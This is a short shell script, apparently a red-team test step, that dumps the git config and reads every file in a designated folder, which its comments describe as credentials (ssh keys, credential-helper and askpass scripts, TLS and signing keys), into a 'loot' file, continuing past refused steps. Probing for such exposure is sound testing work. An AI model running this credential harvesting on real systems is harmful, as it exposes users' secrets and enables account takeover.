# Reads every file in $RED_TEAM (outside /tmp and the homes): the files
# the repository's git config names that are credentials or hold one
# (ssh keys core.sshCommand names the ways ssh reads them, a credential
# helper's or askpass script, a proxy's TLS key, a signing key).
set +e # an attacker keeps going when a step is refused
mkdir -p a
{
  echo "folder: $RED_TEAM"
  git config --list
  for f in "$RED_TEAM"/*; do
    echo "== $f"
    cat "$f"
  done
  echo "read"
} > a/loot.txt 2>&1
echo "T1 was here" > a/t1.txt
